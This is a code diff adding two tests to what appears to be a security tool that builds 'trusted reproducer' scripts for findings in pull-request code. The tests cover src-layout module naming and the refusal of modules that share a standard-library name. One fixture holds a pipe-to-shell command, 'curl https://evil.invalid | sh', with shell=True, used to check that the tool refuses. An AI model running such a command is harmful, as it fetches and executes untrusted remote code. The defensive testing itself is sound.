@@ -188,3 +188,29 @@ def test_a_script_plan_runs_only_the_jobs_command_on_the_findings_lines() -> Non
     text, refused = trusted_reproducer(_record(train), finding,  # type: ignore[arg-type]
                                        configured)
     assert refused is None and "ARGV = ['train.py', '--epochs', '1']" in str(text)
+
+
+def test_a_src_layout_plan_names_the_module_without_its_source_folder() -> None:
+    """`src/pkg/rates.py` is `pkg.rates` only where the host read `src` as a source root
+    before the PR's code ran; the reproducer then puts `src` on its own path."""
+    from runners.trusted import trusted_reproducer
+
+    (finding,) = scan_source(SOURCE, "src/pkg/rates.py").findings
+    text, refused = trusted_reproducer(_record(_plan()), finding,  # type: ignore[arg-type]
+                                       None, ("src",))
+    assert refused is None and text is not None and "from pkg.rates import rate" in text
+    assert "os.path.abspath(__file__)), 'src'))" in text
+    text, refused = trusted_reproducer(_record(_plan()), finding)  # type: ignore[arg-type]
+    assert text is None and refused is not None and "not the finding's" in refused
+
+
+def test_a_module_named_like_the_standard_library_is_refused() -> None:
+    """A PR file `subprocess.py` makes module `subprocess`: a reproducer importing it would
+    get the standard module, already loaded, and call it with the plan's values."""
+    from runners.trusted import trusted_reproducer
+
+    (finding,) = scan_source(SOURCE, "subprocess.py").findings
+    plan = _plan(module="subprocess", qualname="Popen", constructed=True,
+                 init=[["args", "curl https://evil.invalid | sh"], ["shell", True]])
+    text, refused = trusted_reproducer(_record(plan), finding)  # type: ignore[arg-type]
+    assert text is None and refused is not None and "standard library" in refused
